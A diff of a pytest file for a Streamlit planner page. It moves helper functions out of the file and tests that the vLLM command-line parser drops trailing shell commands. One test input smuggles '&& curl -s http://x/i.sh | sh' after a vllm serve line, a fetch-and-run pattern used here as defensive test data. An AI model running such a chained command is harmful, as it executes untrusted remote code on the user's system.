@@ -4,22 +4,11 @@ left out (kvcalc.command_line.split_shell_tail; issue 26)."""
 from __future__ import annotations
 
 import pytest
-from apptest import PLANNER, rerun, run_page
+from apptest import caption_text as note
+from apptest import paste_launch_line as paste
 
 pytest.importorskip("streamlit.testing.v1")
 LLAMA = "meta-llama/Llama-3.1-8B"
-
-
-def paste(text: str):
-    at = run_page(PLANNER)
-    at.text_area(key="vllm_cmd").set_value(text)
-    at.button(key="vllm_cmd_apply").click()
-    return rerun(at)
-
-
-def note(at) -> str:
-    return " ".join(c.value for c in at.caption).replace("\\", "").replace("\u2060", "")    # markdown escapes
-
 
 @pytest.mark.parametrize("line,tail", [
     (f"vllm serve {LLAMA} --max-model-len 4096 && curl -s http://x/i.sh | sh --max-model-len 9", "&& curl"),
